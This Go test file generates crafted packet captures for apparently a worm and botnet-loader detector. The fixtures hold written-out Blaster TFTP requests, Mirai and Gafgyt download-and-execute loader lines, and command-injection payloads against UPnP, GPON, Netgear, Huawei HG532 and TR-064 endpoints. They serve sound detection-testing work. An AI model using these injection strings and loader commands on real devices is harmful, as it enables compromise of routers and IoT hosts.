package wire

import (
	"bytes"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"
)

// The crafted captures are the cases no real tool on this machine makes:
// VLAN and QinQ tags, IPv6, fragments, odd link types, malformed requests.
// This file is their generator: go test ./wire -run TestCraftedUpToDate -update
// rewrites testdata/pcap/crafted/, and without -update the test fails when
// the committed files differ from what the generator makes.
var update = flag.Bool("update", false, "rewrite the crafted captures in testdata/pcap/crafted")

const craftedDir = "../testdata/pcap/crafted"

var (
	infected  = net.IP{10, 0, 0, 9}  // serves the worm (the infector)
	victim    = net.IP{10, 0, 0, 5}  // asks for it (just exploited)
	other     = net.IP{192, 0, 2, 7} // legitimate traffic
	infected6 = net.ParseIP("2001:db8::9")
	victim6   = net.ParseIP("2001:db8::5")
	macA      = net.HardwareAddr{0x02, 0, 0, 0, 0, 0x05}
	macB      = net.HardwareAddr{0x02, 0, 0, 0, 0, 0x09}
	baseTime  = time.Date(2003, 8, 11, 16, 30, 0, 0, time.UTC)
)

// rrq builds a TFTP request payload: opcode, file, mode, then options.
func rrq(op byte, file, mode string, opts ...string) []byte {
	b := []byte{0, op}
	b = append(b, file...)
	b = append(b, 0)
	b = append(b, mode...)
	b = append(b, 0)
	for _, o := range opts {
		b = append(b, o...)
		b = append(b, 0)
	}
	return b
}

func ser(t testing.TB, ls ...gopacket.SerializableLayer) []byte {
	t.Helper()
	buf := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, ls...); err != nil {
		t.Fatal(err)
	}
	return bytes.Clone(buf.Bytes())
}

func eth(typ layers.EthernetType) *layers.Ethernet {
	return &layers.Ethernet{SrcMAC: macA, DstMAC: macB, EthernetType: typ}
}

func ip4(src, dst net.IP, proto layers.IPProtocol) *layers.IPv4 {
	return &layers.IPv4{Version: 4, IHL: 5, TTL: 64, Id: 0x1234, Protocol: proto, SrcIP: src, DstIP: dst}
}

func ip6(src, dst net.IP, next layers.IPProtocol) *layers.IPv6 {
	return &layers.IPv6{Version: 6, HopLimit: 64, NextHeader: next, SrcIP: src, DstIP: dst}
}

// udp4 is a whole Ethernet/IPv4/UDP frame.
func udp4(t testing.TB, src, dst net.IP, sport, dport uint16, payload []byte) []byte {
	ip := ip4(src, dst, layers.IPProtocolUDP)
	u := &layers.UDP{SrcPort: layers.UDPPort(sport), DstPort: layers.UDPPort(dport)}
	u.SetNetworkLayerForChecksum(ip)
	return ser(t, eth(layers.EthernetTypeIPv4), ip, u, gopacket.Payload(payload))
}

// ipUDP is an IPv4/UDP packet without a link layer (raw IP, loopback, SLL).
func ipUDP(t testing.TB, src, dst net.IP, sport, dport uint16, payload []byte) []byte {
	ip := ip4(src, dst, layers.IPProtocolUDP)
	u := &layers.UDP{SrcPort: layers.UDPPort(sport), DstPort: layers.UDPPort(dport)}
	u.SetNetworkLayerForChecksum(ip)
	return ser(t, ip, u, gopacket.Payload(payload))
}

func ip6UDP(t testing.TB, src, dst net.IP, sport, dport uint16, payload []byte) []byte {
	ip := ip6(src, dst, layers.IPProtocolUDP)
	u := &layers.UDP{SrcPort: layers.UDPPort(sport), DstPort: layers.UDPPort(dport)}
	u.SetNetworkLayerForChecksum(ip)
	return ser(t, ip, u, gopacket.Payload(payload))
}

// udpBytes is a UDP header and payload, to be cut into fragments.
func udpBytes(t testing.TB, sport, dport uint16, payload []byte) []byte {
	// Fragments are cut from it before any IP header exists, so its
	// checksum stays 0 ("none"), which RFC 768 allows over IPv4.
	u := &layers.UDP{SrcPort: layers.UDPPort(sport), DstPort: layers.UDPPort(dport)}
	buf := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true}, u, gopacket.Payload(payload)); err != nil {
		t.Fatal(err)
	}
	return bytes.Clone(buf.Bytes())
}

// frag4 is one Ethernet/IPv4 fragment carrying part of a datagram.
func frag4(t testing.TB, src, dst net.IP, id uint16, off int, more bool, part []byte) []byte {
	ip := ip4(src, dst, layers.IPProtocolUDP)
	ip.Id = id
	ip.FragOffset = uint16(off / 8)
	if more {
		ip.Flags = layers.IPv4MoreFragments
	}
	return ser(t, eth(layers.EthernetTypeIPv4), ip, gopacket.Payload(part))
}

// frag6 is one Ethernet/IPv6 fragment.
func frag6(t testing.TB, src, dst net.IP, id uint32, off int, more bool, part []byte) []byte {
	ip := ip6(src, dst, layers.IPProtocolIPv6Fragment)
	f := &layers.IPv6Fragment{NextHeader: layers.IPProtocolUDP, FragmentOffset: uint16(off / 8), MoreFragments: more, Identification: id}
	return ser(t, eth(layers.EthernetTypeIPv6), ip, f, gopacket.Payload(part))
}

func sllHeader(proto layers.EthernetType) []byte {
	h := make([]byte, 16)
	binary.BigEndian.PutUint16(h[0:], 0) // sent to us
	binary.BigEndian.PutUint16(h[2:], 1) // ARPHRD_ETHER
	binary.BigEndian.PutUint16(h[4:], 6) // address length
	copy(h[6:], macA)                    // address
	binary.BigEndian.PutUint16(h[14:], uint16(proto))
	return h
}

type frame struct {
	lt   layers.LinkType
	data []byte
}

type craftedFile struct {
	name   string
	ng     bool // pcapng
	frames []frame
}

func en(data ...[]byte) []frame {
	fs := make([]frame, len(data))
	for i, d := range data {
		fs[i] = frame{layers.LinkTypeEthernet, d}
	}
	return fs
}

// craftedFiles builds every crafted capture.
func craftedFiles(t testing.TB) []craftedFile {
	msblast := rrq(1, "msblast.exe", "octet")
	var files []craftedFile
	add := func(name string, frames ...frame) { files = append(files, craftedFile{name: name, frames: frames}) }

	{
		ip := ip4(victim, infected, layers.IPProtocolUDP)
		u := &layers.UDP{SrcPort: 1025, DstPort: 69}
		u.SetNetworkLayerForChecksum(ip)
		add("vlan-msblast.pcap", en(ser(t, eth(layers.EthernetTypeDot1Q),
			&layers.Dot1Q{VLANIdentifier: 100, Type: layers.EthernetTypeIPv4}, ip, u, gopacket.Payload(msblast)))...)
		add("qinq-msblast.pcap", en(ser(t, eth(layers.EthernetTypeQinQ),
			&layers.Dot1Q{VLANIdentifier: 10, Type: layers.EthernetTypeDot1Q},
			&layers.Dot1Q{VLANIdentifier: 20, Type: layers.EthernetTypeIPv4}, ip, u, gopacket.Payload(msblast)))...)
	}
	{
		ip := ip6(victim6, infected6, layers.IPProtocolUDP)
		u := &layers.UDP{SrcPort: 1025, DstPort: 69}
		u.SetNetworkLayerForChecksum(ip)
		add("ipv6-msblast.pcap", en(ser(t, eth(layers.EthernetTypeIPv6), ip, u, gopacket.Payload(msblast)))...)
	}
	{
		// A 28-byte datagram in a 24-byte first fragment and a 4-byte last
		// one: a last fragment under 8 bytes (google/gopacket's ip4defrag
		// rejected those). The second datagram arrives last piece first.
		dg := udpBytes(t, 1025, 69, rrq(1, "msblast.exe", "octet", "blksize", "512"))
		n := len(dg) - 4
		n -= n % 8
		dg2 := udpBytes(t, 1026, 69, rrq(1, "teekids.exe", "octet"))
		add("frag-tiny-last.pcap", en(
			frag4(t, victim, infected, 7, 0, true, dg[:n]),
			frag4(t, victim, infected, 7, n, false, dg[n:]),
			frag4(t, victim, infected, 8, 16, false, dg2[16:]),
			frag4(t, victim, infected, 8, 8, true, dg2[8:16]),
			frag4(t, victim, infected, 8, 0, true, dg2[:8]),
		)...)
		// The same request whose pieces overlap: dropped, as the kernel would.
		add("frag-overlap.pcap", en(
			frag4(t, victim, infected, 9, 0, true, dg[:16]),
			frag4(t, victim, infected, 9, 8, false, dg[8:]),
		)...)
		dg6 := udpBytes(t, 1025, 69, msblast)
		add("ipv6-frag-msblast.pcap", en(
			frag6(t, victim6, infected6, 0xabcdef, 0, true, dg6[:16]),
			frag6(t, victim6, infected6, 0xabcdef, 16, false, dg6[16:]),
		)...)
	}
	add("from-port-53.pcap", en(udp4(t, victim, infected, 53, 69, msblast), udp4(t, victim, infected, 123, 69, rrq(1, "mslaugh.exe", "octet")),
		udp4(t, victim, infected, 4789, 69, rrq(1, "enbiei.exe", "octet")))...)
	add("options-path-case.pcap", en(
		udp4(t, victim, infected, 1030, 69, rrq(1, `C:\WINDOWS\system32\MSBlast.EXE`, "OCTET", "blksize", "1428", "tsize", "0")),
		udp4(t, victim, infected, 1031, 69, rrq(1, "/tftpboot/Penis32.Exe", "Octet", "timeout", "3")),
		udp4(t, victim, infected, 1032, 69, append(rrq(1, "svchost.exe", "netascii"), 0, 0, 0)), // NUL padding
		udp4(t, victim, infected, 1033, 69, rrq(2, "mspatch.exe", "octet")),
	)...)
	add("malformed.pcap", en(
		udp4(t, victim, infected, 1040, 69, []byte("\x00\x01msblast.exe")),                 // no NUL, no mode
		udp4(t, victim, infected, 1041, 69, []byte("\x00\x01msblast.exe\x00binary\x00")),   // bad mode
		udp4(t, victim, infected, 1042, 69, []byte("\x00\x03msblast.exe\x00octet\x00")),    // DATA, not a request
		udp4(t, victim, infected, 1043, 69, []byte("\x00\x01\x00octet\x00")),               // empty file name
		udp4(t, victim, infected, 1044, 69, []byte("\x00\x01msblast.exe\x00octet\x00blk")), // option not terminated
		udp4(t, victim, infected, 1045, 69, nil),                                           // empty
		udp4(t, victim, infected, 1046, 69, bytes.Repeat([]byte{0xff}, 1400)),
		udp4(t, victim, infected, 1047, 69, msblast)[:14+20+4], // cut inside the UDP header
		udp4(t, victim, infected, 1048, 69, msblast)[:14+10],   // cut inside the IP header
		[]byte{1, 2, 3},
	)...)
	add("legit-tftp.pcap", en(
		udp4(t, other, infected, 2000, 69, rrq(1, "pxelinux.0", "octet", "tsize", "0", "blksize", "1408")),
		udp4(t, other, infected, 2001, 69, rrq(1, "pxelinux.cfg/01-02-00-00-00-00-07", "octet")),
		udp4(t, other, infected, 2002, 69, rrq(2, "router-confg", "octet")),
		udp4(t, other, infected, 2003, 69, rrq(1, "cisco-confg", "netascii")),
		udp4(t, other, infected, 2004, 69, rrq(1, "msblast.exe.txt", "octet")),
		udp4(t, other, infected, 2005, 69, rrq(1, "notmsblast.exe", "octet")),
	)...)
	add("any-port.pcap", en(
		udp4(t, victim, infected, 1050, 6969, msblast),
		udp4(t, other, infected, 1051, 1069, []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01")),
	)...)
	{
		ip := ip4(infected, victim, layers.IPProtocolTCP)
		tcp := &layers.TCP{SrcPort: 3306, DstPort: 4444, Seq: 1, Ack: 1, PSH: true, ACK: true, Window: 65535, DataOffset: 5}
		tcp.SetNetworkLayerForChecksum(ip)
		cmd := ser(t, eth(layers.EthernetTypeIPv4), ip, tcp, gopacket.Payload("tftp -i 10.0.0.9 GET msblast.exe\n"))
		ip2 := ip4(other, victim, layers.IPProtocolTCP)
		tcp2 := &layers.TCP{SrcPort: 3307, DstPort: 80, Seq: 1, Ack: 1, PSH: true, ACK: true, Window: 65535, DataOffset: 5}
		tcp2.SetNetworkLayerForChecksum(ip2)
		web := ser(t, eth(layers.EthernetTypeIPv4), ip2, tcp2, gopacket.Payload("GET /tftp -i x HTTP/1.0\r\n\r\n"))
		add("tcp-4444-command.pcap", en(cmd, web)...)
	}
	{
		aa := bytes.Repeat([]byte{0xaa}, 64)
		req := ser(t, eth(layers.EthernetTypeIPv4), ip4(infected, other, layers.IPProtocolICMPv4),
			&layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeEchoRequest, 0), Id: 0x200, Seq: 0x1c00}, gopacket.Payload(aa))
		rep := ser(t, eth(layers.EthernetTypeIPv4), ip4(other, infected, layers.IPProtocolICMPv4),
			&layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeEchoReply, 0), Id: 0x200, Seq: 0x1c00}, gopacket.Payload(aa))
		ping := ser(t, eth(layers.EthernetTypeIPv4), ip4(other, infected, layers.IPProtocolICMPv4),
			&layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeEchoRequest, 0), Id: 1, Seq: 1}, gopacket.Payload(bytes.Repeat([]byte("abcdefgh"), 7)))
		i6 := ip6(infected6, victim6, layers.IPProtocolICMPv6)
		ic6 := &layers.ICMPv6{TypeCode: layers.CreateICMPv6TypeCode(layers.ICMPv6TypeEchoRequest, 0)}
		ic6.SetNetworkLayerForChecksum(i6)
		req6 := ser(t, eth(layers.EthernetTypeIPv6), i6, ic6, &layers.ICMPv6Echo{Identifier: 2, SeqNumber: 3}, gopacket.Payload(aa))
		add("welchia-icmp.pcap", en(req, rep, ping, req6)...)
	}
	{
		lo := append([]byte{2, 0, 0, 0}, ipUDP(t, victim, infected, 1060, 69, msblast)...) // host order AF_INET
		lo6 := append([]byte{0, 0, 0, 30}, ip6UDP(t, victim6, infected6, 1061, 69, msblast)...)
		add("null-loopback.pcap", frame{layers.LinkTypeNull, lo}, frame{layers.LinkTypeNull, lo6})
		add("raw-ip.pcap", frame{layers.LinkTypeRaw, ipUDP(t, victim, infected, 1062, 69, msblast)},
			frame{layers.LinkTypeRaw, ip6UDP(t, victim6, infected6, 1063, 69, msblast)})
		add("linux-sll.pcap", frame{layers.LinkTypeLinuxSLL, append(sllHeader(layers.EthernetTypeIPv4), ipUDP(t, victim, infected, 1064, 69, msblast)...)})
	}
	{
		// Today's IoT loaders, after their published command lines: the
		// Mirai loader's "busybox tftp -g -l dvrHelper -r mirai.<arch>",
		// the Gafgyt infect line's "tftp <ip> -c get tftp1.sh" and
		// "tftp -r tftp2.sh -g <ip>", bots named by CPU. busybox 1.35 sends
		// octet with "tsize 0" (and blksize with -b), tftp-hpa netascii
		// unless told otherwise: testdata/pcap/real/busybox-mirai-gafgyt-loader.pcap.
		add("loader-tftp.pcap", en(
			udp4(t, victim, infected, 40001, 69, rrq(1, "mirai.arm7", "octet", "tsize", "0")),
			udp4(t, victim, infected, 40002, 69, rrq(1, "mirai.mips", "octet", "tsize", "0")),
			udp4(t, victim, infected, 40003, 69, rrq(1, "tftp1.sh", "netascii")),
			udp4(t, victim, infected, 40004, 69, rrq(1, "tftp2.sh", "octet", "blksize", "1468")),
			udp4(t, victim, infected, 40005, 69, rrq(1, "bin2.sh", "octet")),
			udp4(t, victim, infected, 40006, 69, rrq(1, "Akiru.MPSL", "octet")),
			udp4(t, victim, infected, 40007, 69, rrq(1, "/bins/sora.m68k", "octet")),
			ser(t, eth(layers.EthernetTypeIPv6), func() gopacket.SerializableLayer {
				return ip6(victim6, infected6, layers.IPProtocolUDP)
			}(), func() gopacket.SerializableLayer {
				u := &layers.UDP{SrcPort: 40008, DstPort: 69}
				u.SetNetworkLayerForChecksum(ip6(victim6, infected6, layers.IPProtocolUDP))
				return u
			}(), gopacket.Payload(rrq(1, "x86.arm5", "octet"))),
		)...)
		loader := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"
		gafgyt := "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://10.0.0.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 10.0.0.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 10.0.0.9; chmod 777 tftp2.sh; sh tftp2.sh\r\n"
		body := "POST /picsdesc.xml HTTP/1.1\r\nHost: 10.0.0.5:80\r\nContent-Type: text/xml\r\n\r\n<NewInternalClient>`cd /tmp;busybox+tftp+10.0.0.9+-c+get+tftp1.sh;sh+tftp1.sh`</NewInternalClient>"
		body2 := "GET /shell?cd+/tmp;busybox+tftp+-r+tftp2.sh+-g+10.0.0.9;sh+tftp2.sh HTTP/1.1\r\nHost: 10.0.0.5:8080\r\n\r\n"
		add("loader-commands.pcap", append(en(
			tcpTo(t, infected, victim, 41001, 23, loader),
			tcpTo(t, infected, victim, 41002, 2323, loader),
			tcpTo(t, infected, victim, 41003, 23, gafgyt),
			tcpTo(t, infected, victim, 41004, 2323, gafgyt),
			tcpTo(t, infected, victim, 41005, 80, body),
			tcpTo(t, infected, victim, 41006, 8080, body2),
		), loaderForms(t)...)...)
		// Legitimate: PXE, iPXE, bootloaders, kernels, phone and switch
		// provisioning, router configs and firmware; an administrator
		// typing a TFTP fetch into a router's telnet; ordinary HTTP.
		var legit []frame
		for i, f := range []string{"pxelinux.0", "bootx64.efi", "grubx64.efi", "undionly.kpxe", "ipxe.efi", "snponly.efi",
			"ldlinux.c32", "vmlinuz", "initrd.img", "zImage", "uImage", "memtest86+.bin", "yaboot", "lpxelinux.0",
			"pxelinux.cfg/default", "SPA504G-7.6.2.cfg", "SEP001122334455.cnf.xml", "XMLDefault.cnf.xml",
			"c2960-lanbasek9-mz.150-2.SE11.bin", "openwrt-ath79-generic-tplink_archer-c7-v2-squashfs-factory.bin",
			"router-confg", "firmware.bin", "MikroTik-6.49.img", "tftpboot.img", "armv7-rootfs.tar", "arm64/Image"} {
			legit = append(legit, en(udp4(t, other, infected, uint16(42000+i), 69, rrq(1, f, "octet")))...)
		}
		legit = append(legit, en(
			tcpTo(t, other, infected, 43001, 23, "copy tftp://10.0.0.9/c2960-lanbasek9-mz.bin flash:\r\n"),
			tcpTo(t, other, infected, 43002, 23, "tftp -g -r firmware.bin 10.0.0.9\r\n"),
			tcpTo(t, other, infected, 43003, 80, "GET /firmware/pxelinux.0 HTTP/1.1\r\nHost: boot.example\r\n\r\n"),
		)...)
		add("legit-boot.pcap", legit...)
		add("legit-web.pcap", legitWeb(t)...)
		add("loader-split.pcap", loaderSplit(t)...)
	}
	// A pcapng with two interfaces of different link types.
	files = append(files, craftedFile{name: "mixed.pcapng", ng: true, frames: []frame{
		{layers.LinkTypeEthernet, udp4(t, victim, infected, 1070, 69, msblast)},
		{layers.LinkTypeRaw, ipUDP(t, victim, infected, 1071, 69, rrq(1, "eschlp.exe", "octet"))},
	}})
	return files
}

// encode writes a crafted file as pcap or pcapng, deterministically.
func encode(t testing.TB, cf craftedFile) []byte {
	var buf bytes.Buffer
	ci := func(i int, data []byte) gopacket.CaptureInfo {
		return gopacket.CaptureInfo{Timestamp: baseTime.Add(time.Duration(i) * 10 * time.Millisecond), CaptureLength: len(data), Length: len(data)}
	}
	if cf.ng {
		lts := []layers.LinkType{}
		idx := map[layers.LinkType]int{}
		for _, f := range cf.frames {
			if _, ok := idx[f.lt]; !ok {
				idx[f.lt] = len(lts)
				lts = append(lts, f.lt)
			}
		}
		opts := pcapgo.NgWriterOptions{SectionInfo: pcapgo.NgSectionInfo{Application: "wormsink crafted"}}
		w, err := pcapgo.NewNgWriterInterface(&buf, pcapgo.NgInterface{Name: "if0", LinkType: lts[0], TimestampResolution: 9}, opts)
		if err != nil {
			t.Fatal(err)
		}
		for _, lt := range lts[1:] {
			if _, err := w.AddInterface(pcapgo.NgInterface{Name: "if1", LinkType: lt, TimestampResolution: 9}); err != nil {
				t.Fatal(err)
			}
		}
		for i, f := range cf.frames {
			c := ci(i, f.data)
			c.InterfaceIndex = idx[f.lt]
			if err := w.WritePacket(c, f.data); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	w := pcapgo.NewWriter(&buf)
	if err := w.WriteFileHeader(65535, cf.frames[0].lt); err != nil {
		t.Fatal(err)
	}
	for i, f := range cf.frames {
		if err := w.WritePacket(ci(i, f.data), f.data); err != nil {
			t.Fatal(err)
		}
	}
	return buf.Bytes()
}

func TestCraftedUpToDate(t *testing.T) {
	for _, cf := range craftedFiles(t) {
		got := encode(t, cf)
		path := filepath.Join(craftedDir, cf.name)
		if *update {
			if err := os.MkdirAll(craftedDir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, got, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("%v (run go test ./wire -run TestCraftedUpToDate -update)", err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from what the generator makes (run with -update)", path)
		}
	}
}

// tcpTo is an Ethernet/IPv4/TCP frame with a payload.
func tcpTo(t testing.TB, src, dst net.IP, sport, dport uint16, payload string) []byte {
	ip := ip4(src, dst, layers.IPProtocolTCP)
	tcp := &layers.TCP{SrcPort: layers.TCPPort(sport), DstPort: layers.TCPPort(dport), Seq: 1, Ack: 1, PSH: true, ACK: true, Window: 65535, DataOffset: 5}
	tcp.SetNetworkLayerForChecksum(ip)
	return ser(t, eth(layers.EthernetTypeIPv4), ip, tcp, gopacket.Payload(payload))
}

// loaderForms are the loader command lines as forks and exploits send
// them (packets 7 on of loader-commands.pcap): renamed droppers and bots,
// prefixed Gafgyt scripts, the Mirai line in HTTP exploit request lines
// and bodies (URL-encoded, ${IFS}, JSON, XML), telnet negotiation in
// front of the command, and a fetch of a name nobody lists.
func loaderForms(t testing.TB) []frame {
	post := func(path, ctype, body string) string {
		return "POST " + path + " HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: " + ctype + "\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body
	}
	return en(
		// 7, 8: forks rename the dropper, or the bot too.
		tcpTo(t, infected, victim, 41007, 23, "/bin/busybox tftp -g -l .d -r mirai.mpsl 10.0.0.9; /bin/busybox chmod 777 .d; /bin/busybox SORA\r\n"),
		tcpTo(t, infected, victim, 41008, 2323, "/bin/busybox tftp -g -l 19ju3d -r sora.arm7 10.0.0.9; /bin/busybox chmod 777 19ju3d; /bin/busybox AK1K2\r\n"),
		// 9: the Mirai line in a UPnP SOAP body (port 80).
		tcpTo(t, infected, victim, 41009, 80, post("/picsdesc.xml", "text/xml",
			`<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`+"`cd /tmp;/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9;./dvrHelper`"+`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>`)),
		// 10: in a URL-encoded request line (port 8080).
		tcpTo(t, infected, victim, 41010, 8080, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d&curpath=/&currentsetting.htm=1 HTTP/1.1\r\nHost: 10.0.0.5:8080\r\n\r\n"),
		// 11: Gafgyt forks prefix their scripts.
		tcpTo(t, infected, victim, 41011, 23, "cd /tmp || cd /run || cd /; wget http://10.0.0.9/axisbins.sh; chmod 777 axisbins.sh; sh axisbins.sh; tftp 10.0.0.9 -c get axistftp1.sh; chmod 777 axistftp1.sh; sh axistftp1.sh; tftp -r axistftp2.sh -g 10.0.0.9; chmod 777 axistftp2.sh; sh axistftp2.sh; rm -rf *\r\n"),
		// 12: a prefixed script with ${IFS} for spaces in a form body.
		tcpTo(t, infected, victim, 41012, 80, post("/GponForm/diag_Form?images/", "application/x-www-form-urlencoded",
			"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}10.0.0.9;sh${IFS}ukloltftp2.sh`;&ipv=0")),
		// 13: telnet option negotiation in front of the loader's line.
		tcpTo(t, infected, victim, 41013, 23, "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9\r\n"),
		// 14: in a JSON body, the bot named by CPU only (port 8080).
		tcpTo(t, infected, victim, 41014, 8080, post("/api/ping", "application/json", `{"host":"127.0.0.1;busybox tftp -g -r bot.sh4 -l /tmp/b 10.0.0.9;/tmp/b","count":1}`)),
		// 15: the Huawei HG532 exploit (port 37215), $( ) around the fetch.
		tcpTo(t, infected, victim, 41015, 37215, post("/ctrlt/DeviceUpgrade_1", "text/xml",
			`<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox tftp -g -l /tmp/k -r okiru.m68k 10.0.0.9)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>`)),
		// 16: a fetch of a name no signature lists: weak.
		tcpTo(t, infected, victim, 41016, 80, post("/boaform/formPing6", "application/x-www-form-urlencoded",
			"pingAddr=%3bbusybox+tftp+-g+-r+swJaf+-l+/var/swJaf+10.0.0.9+69%3bcd+/var%3bchmod+0777+swJaf%3b./swJaf&wanif=65535&go=+Ping")),
		// 17: Gafgyt's -g before the host, then -r (a Python scanner's line), port 80 request line.
		tcpTo(t, infected, victim, 41017, 80, "GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;cd+/tmp;tftp+-g+10.0.0.9+-r+tftp1.sh;sh+tftp1.sh&password=x HTTP/1.1\r\n\r\n"),
		// 18: the 2016 TR-064 variant (port 7547) fetches a file named 7,
		// which no signature can list: weak.
		tcpTo(t, infected, victim, 41018, 7547, post("/UD/act?1", "text/xml",
			`<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers><NewNTPServer1>`+"`cd /tmp;tftp -l 7 -r 7 -g 10.0.0.9;chmod a+x 7;./7`"+`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>`)),
	)
}

// legitWeb is ordinary web and telnet traffic that names loader files or
// the tftp client outside any fetch command: none of it is evidence.
func legitWeb(t testing.TB) []frame {
	return en(
		tcpTo(t, other, infected, 44001, 80, "GET /bins/tftp1.sh HTTP/1.1\r\nHost: mirror.example\r\nUser-Agent: curl/8.5.0\r\n\r\n"),
		tcpTo(t, other, infected, 44002, 8080, "GET /downloads/mirai.arm7 HTTP/1.1\r\nHost: research.example\r\n\r\n"),
		tcpTo(t, other, infected, 44003, 80, "GET /search?q=tftp1.sh+tftp2.sh+axistftp1.sh+mirai.mips HTTP/1.1\r\nHost: search.example\r\n\r\n"),
		tcpTo(t, other, infected, 44004, 80, "GET /docs/tftp.html HTTP/1.1\r\nHost: docs.example\r\nReferer: http://docs.example/tftp-howto?file=mirai.arm7\r\n\r\n"),
		tcpTo(t, other, infected, 44005, 80, "POST /upload HTTP/1.1\r\nHost: files.example\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"axistftp1.sh\"\r\n\r\n#!/bin/sh\r\n--x--\r\n"),
		tcpTo(t, other, infected, 44006, 80, "GET /cgi-bin/tftp?file=mirai.arm7&get=1 HTTP/1.1\r\nHost: router.example\r\n\r\n"),
		tcpTo(t, other, infected, 44007, 23, "ls -l /tftpboot; cat /tftpboot/tftp1.sh | head\r\n"),
		tcpTo(t, other, infected, 44008, 8080, "PUT /api/services HTTP/1.1\r\nHost: nas.example\r\nContent-Type: application/json\r\n\r\n{\"service\":\"tftp\",\"enabled\":true,\"root\":\"/srv/tftp\",\"file\":\"tftp1.sh\"}"),
		tcpTo(t, other, infected, 44009, 80, "GET /wiki/index.php?title=tftp&action=edit&section=-r HTTP/1.1\r\nHost: wiki.example\r\n\r\n"),
		tcpTo(t, other, infected, 44010, 80, "GET /dl/mirai%2Earm7?ref=tftp%20-g HTTP/1.1\r\nHost: x.example\r\n\r\n"),
	)
}

// loaderSplit are loader lines cut into TCP segments, as shells and
// exploits send them (see streams): the Mirai loader's line a byte a
// segment, each segment seen twice (a capture on lo, or a
// retransmission); the Gafgyt line in two, cut inside its script's
// name; Blaster's shell command cut inside "tftp -i"; a URL-encoded
// exploit cut inside %20 and the name; and an administrator's fetch of
// an unlisted file a byte a segment (weak once, at its end). Each is one
// finding, as the whole line is.
func loaderSplit(t testing.TB) []frame {
	var out [][]byte
	segs := func(src net.IP, sport, dport uint16, seq uint32, pieces ...string) {
		for _, p := range pieces {
			out = append(out, tcpSeg(t, src, victim, tseg{sport: sport, dport: dport, seq: seq, payload: p}))
			seq += uint32(len(p))
		}
	}
	mirai := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper\r\n"
	for k := range len(mirai) {
		f := tcpSeg(t, infected, victim, tseg{sport: 45001, dport: 23, seq: 5000 + uint32(k), payload: mirai[k : k+1]})
		out = append(out, f, f)
	}
	segs(infected, 45002, 2323, 9000, "cd /tmp; tftp -r axistf", "tp2.sh -g 10.0.0.9; sh axistftp2.sh\r\n")
	segs(infected, 45003, 4444, 77, "tftp -", "i 10.0.0.9 GET msblast.exe\r\n")
	segs(infected, 45004, 8080, 1<<32-40, "GET /setup.cgi?cmd=cd%20/tmp%3Bbusybox%20tftp%2", "0-g%20-l%20d%20-r%20mira", "i.mips%2010.0.0.9%3Bsh%20d HTTP/1.1\r\n\r\n")
	typed := "tftp -g -r firmware.bin 10.0.0.9\r\n"
	for k := range len(typed) {
		segs(other, 45005, 23, 300+uint32(k), typed[k:k+1])
	}
	return en(out...)
}
